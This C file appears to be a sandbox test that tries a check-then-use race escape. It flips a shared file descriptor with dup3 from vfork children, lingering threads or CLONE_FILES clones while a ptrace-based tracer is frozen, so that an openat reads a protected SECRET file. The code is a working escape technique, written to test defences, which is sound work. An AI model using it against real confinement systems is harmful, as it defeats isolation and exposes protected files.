/* race_vfork: a task a freeze takes for stopped -- it runs beside another task's call that
 * the tree is frozen for.
 *
 *   race_vfork exit|thread|clone SECRET WORK [ITERATIONS [SECONDS]]
 *
 * A call whose canonical name no absolute spelling can give (a directory deeper than
 * PATH_MAX) keeps its own spelling and dirfd and runs with every other task stopped
 * (enforce.Holder.respelled, Tracer._freeze, _unchanged).  Thread T opens "secret.txt"
 * relative to descriptor N, a directory below WORK deeper than PATH_MAX holding a harmless
 * file of that name; another task sharing the descriptor table dup2s SECRET's directory onto
 * N and back (dup2 stops nowhere).  If that task runs after the check and its re-check, T's
 * openat opens SECRET.  Natively the dup2 race alone wins.  The task:
 *
 *   exit    the main thread, a vfork parent: the freeze left vfork parents alone, but one
 *           runs again as soon as its child lets the memory go (exit_mm, early in do_exit),
 *           before the tracer hears of the child's exit (the children inherit a few thousand
 *           descriptors: closing them, after exit_mm, widens the window);
 *   thread  the same, the child a thread-group leader that leaves a thread of its own behind:
 *           a leader's exit is reported only with its group's, so the tracer never hears of it;
 *   clone   a new CLONE_FILES child, whose first stop comes after the freeze began: the
 *           freeze leaves a task whose first stop is still to come alone, and the loop let
 *           it go at that stop, the tree still frozen.
 * Class 2 (races between check and use).
 */
#include "race.h"

#include <libgen.h>
#include <sched.h>

static int target;           /* the descriptor T's openat is relative to */
static const char *base;     /* the last name: SECRET's, and the decoy's */
static volatile int stop;
static volatile long opens;
static volatile pid_t child_now;  /* the child of the vfork in progress */

static void *opener(void *arg) {
    (void)arg;
    while (!stop) {
        int fd = openat(target, base, O_RDONLY | O_CLOEXEC);
        opens++;
        if (fd >= 0) {
            if (is_secret_fd(fd)) {
                stop = 1;
                if (child_now > 0)
                    kill(child_now, SIGKILL);  /* (a lingering thread would outlive us) */
                escaped("openat(N, \"%s\") gave the secret after %ld opens (fd -> %s)", base,
                        opens, fd_name(fd));
            }
            close(fd);
        }
    }
    return NULL;
}

static char stack[64 * 1024];

static int linger(void *arg) {
    (void)arg;
    for (;;)
        pause();
    return 0;
}

static int secd_fd, deep_fd;

/* a child's whole life: flip N, then exit (it shares the descriptor table) */
static int flipper(void *arg) {
    (void)arg;
    for (int i = 0; i < 2000 && !stop; i++) {
        dup3(secd_fd, target, O_CLOEXEC);
        dup3(deep_fd, target, O_CLOEXEC);
    }
    return 0;
}

int main(int argc, char **argv) {
    if (argc < 4)
        usage("race_vfork exit|thread|clone SECRET WORK [ITERATIONS [SECONDS]]");
    int lingering = strcmp(argv[1], "thread") == 0;
    int cloning = strcmp(argv[1], "clone") == 0;
    argv++;
    argc--;
    struct budget b;
    budget_args(&b, argc, argv, 3);
    char tmp[4096];
    snprintf(tmp, sizeof tmp, "%s", argv[1]);
    int secd = open(dirname(tmp), O_PATH | O_DIRECTORY | O_CLOEXEC);
    snprintf(tmp, sizeof tmp, "%s", argv[1]);
    base = strdup(basename(tmp));
    int dir = open(argv[2], O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (secd < 0 || dir < 0)
        blocked("open the directories: %s", ename(errno));
    char name[201];
    memset(name, 'd', 200);
    name[200] = 0;
    for (int depth = 0; depth < 24; depth++) {  /* 24 * 201 bytes: beyond PATH_MAX */
        if (mkdirat(dir, name, 0755) < 0 && errno != EEXIST)
            blocked("mkdirat at depth %d: %s", depth, ename(errno));
        int next = openat(dir, name, O_PATH | O_DIRECTORY | O_CLOEXEC);
        if (next < 0)
            blocked("openat at depth %d: %s", depth, ename(errno));
        close(dir);
        dir = next;
    }
    int decoy = openat(dir, base, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (decoy < 0 || write(decoy, "public, harmless\n", 17) != 17)
        blocked("the decoy: %s", ename(errno));
    close(decoy);
    target = dir;
    int deep = dup(dir);
    /* descriptors for each child to close as it exits (exit_files, after exit_mm): the
     * parent runs again that much longer before the child's exit is reported */
    for (int i = 0; i < 4000; i++)
        if (dup(deep) < 0)
            break;
    pthread_t t;
    pthread_create(&t, NULL, opener, NULL);
    wait_for_peer(&opens);
    long forks = 0;
    secd_fd = secd;
    deep_fd = deep;
    while (cloning && !stop && budget_left(&b)) {
        /* a new task, stopped until the tracer lets it go: a freeze leaves it alone */
        pid_t child = clone(flipper, stack + sizeof stack, CLONE_VM | CLONE_FILES | SIGCHLD,
                            NULL);
        if (child < 0)
            blocked("clone: %s", ename(errno));
        forks++;
        waitpid(child, NULL, 0);
    }
    while (!cloning && !stop && budget_left(&b)) {
        pid_t child = vfork();
        if (child == 0) {
            if (lingering) {
                /* a thread of the child's own, then the child (its leader) exits alone: the
                 * memory is let go, the parent runs -- and a leader's exit is reported only
                 * with its group's, so the tracer never hears of it while the thread lives */
                if (clone(linger, stack + sizeof stack, CLONE_VM | CLONE_THREAD |
                          CLONE_SIGHAND | CLONE_FS | CLONE_FILES, NULL) < 0)
                    _exit(1);
                syscall(SYS_exit, 0);
            }
            _exit(0);
        }
        if (child < 0)
            blocked("vfork: %s", ename(errno));
        forks++;
        child_now = child;
        /* until the child is reaped (the tracer reaps it first, and so hears of it) */
        do {
            dup3(secd, target, O_CLOEXEC);
            dup3(deep, target, O_CLOEXEC);
        } while (!stop && waitpid(child, NULL, WNOHANG) == 0 && now_s() - b.start < b.seconds);
        if (lingering) {
            kill(child, SIGKILL);
            waitpid(child, NULL, 0);
        }
        child_now = 0;
    }
    stop = 1;
    pthread_join(t, NULL);
    blocked("%ld vforks, %ld opens: never the secret", forks, opens);
}
